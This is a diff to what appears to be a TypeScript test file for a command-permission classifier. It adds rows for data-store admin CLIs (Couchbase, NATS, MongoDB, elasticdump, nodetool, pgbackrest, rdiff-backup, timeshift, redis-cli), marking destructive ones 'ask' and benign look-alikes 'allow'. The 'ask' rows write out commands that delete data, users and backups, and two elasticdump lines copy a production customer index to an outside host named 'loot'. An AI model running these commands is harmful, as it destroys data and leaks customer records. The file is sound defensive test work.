@@ -176,3 +176,57 @@ const QUIET_ROWS: readonly ClassRow[] = [
 ];
 
 classTable("SQL that destroys without DROP, and more SQL clients, under the %s profile", QUIET_ROWS);
+
+/**
+ * ADR 0641: data stores' administration CLIs whose subcommand or flag destroys (a node decommissioned, a bucket,
+ * stream or collection deleted, writes frozen, backups expired early, an index copied to another server). Their
+ * reads and ordinary maintenance stay allowed.
+ */
+const SERVICE_ROWS: readonly ClassRow[] = [
+  ["couchbase-cli bucket-delete -c cb.prod -u admin -p x --bucket orders", "ask", "ask"],
+  ["couchbase-cli bucket-flush -c cb.prod -u admin -p x --bucket orders --force", "ask", "ask"],
+  ["couchbase-cli rebalance -c cb.prod -u admin -p x --server-remove 10.0.0.5", "ask", "ask"],
+  ["nats stream rm ORDERS -f", "ask", "ask"],
+  ["nats kv del sessions --force", "ask", "ask"],
+  ["nats stream purge ORDERS -f", "ask", "ask"],
+  ["mongosh shop --eval 'db.runCommand({dropAllUsersFromDatabase: 1})'", "ask", "ask"],
+  ['mongosh shop --eval \'db.getSiblingDB("admin").runCommand({dropUser: "app"})\'', "ask", "ask"],
+  ["mongosh shop --eval 'db.users.updateMany({}, {$set: {password: \"\"}})'", "ask", "ask"],
+  ["mongosh shop --eval 'db.users.update({}, {$unset: {email: 1}}, {multi: true})'", "ask", "ask"],
+  ["mongosh shop --eval 'db.fsyncLock()'", "ask", "ask"],
+  ["mongosh admin --eval 'db.adminCommand({fsync: 1, lock: true})'", "ask", "ask"],
+  ["mongoimport --uri mongodb://db.prod/shop --collection users --drop --file /tmp/empty.json", "ask", "ask"],
+  ["mongoimport --db shop -c users --mode=delete --file ids.json", "ask", "ask"],
+  ["elasticdump --input=http://es.prod:9200/customers --output=http://203.0.113.50:9200/loot", "ask", "ask"],
+  ["elasticdump --input http://es.prod:9200/customers --output https://x.example.com/c", "ask", "ask"],
+  ["nodetool -h cass.prod decommission", "ask", "ask"],
+  ["nodetool clearsnapshot --all", "ask", "ask"],
+  ["nodetool removenode 1f2e3d4c", "ask", "ask"],
+  ["pgbackrest --stanza=prod expire --repo1-retention-full=1", "ask", "ask"],
+  ["pgbackrest --stanza=prod expire --set=20261101-010101F", "ask", "ask"],
+  ["pgbackrest --stanza=prod stanza-delete --force", "ask", "ask"],
+  ["rdiff-backup --remove-older-than 1s /mnt/backup/home", "ask", "ask"],
+  ["rdiff-backup remove increments --older-than 1D /mnt/backup/home", "ask", "ask"],
+  ["timeshift --delete-all --yes", "ask", "ask"],
+  ["timeshift --delete --snapshot '2026-11-01_00-00-01'", "ask", "ask"],
+  ["redis-cli -h cache.prod CLUSTER RESET HARD", "ask", "ask"],
+  ["redis-cli -h cache.prod cluster failover takeover", "ask", "ask"],
+  ["redis-cli -h cache.prod CLIENT KILL TYPE normal", "ask", "ask"],
+  ["redis-cli client pause 600000", "ask", "ask"],
+  // Look-alikes.
+  ["couchbase-cli bucket-list -c cb.prod -u admin -p x", "allow", "allow"],
+  ["nats stream ls", "allow", "allow"],
+  ["nats pub orders.created '{\"id\":1}'", "allow", "allow"],
+  ["mongosh shop --eval 'db.users.updateMany({active: false}, {$set: {archived: true}})'", "allow", "allow"],
+  ["mongoimport --db shop_dev -c users --file users.json", "allow", "allow"],
+  ["elasticdump --input=http://localhost:9200/customers --output=customers.json", "allow", "allow"],
+  ["nodetool status", "allow", "allow"],
+  ["nodetool snapshot -t before-upgrade shop", "allow", "allow"],
+  ["pgbackrest --stanza=prod expire", "allow", "allow"],
+  ["rdiff-backup /home/dev /mnt/backup/home", "allow", "allow"],
+  ["timeshift --create --comments 'before upgrade'", "allow", "allow"],
+  ["redis-cli CLUSTER INFO", "allow", "allow"],
+  ["redis-cli CLIENT LIST", "allow", "allow"],
+];
+
+classTable("data stores' administration CLIs under the %s profile", SERVICE_ROWS);
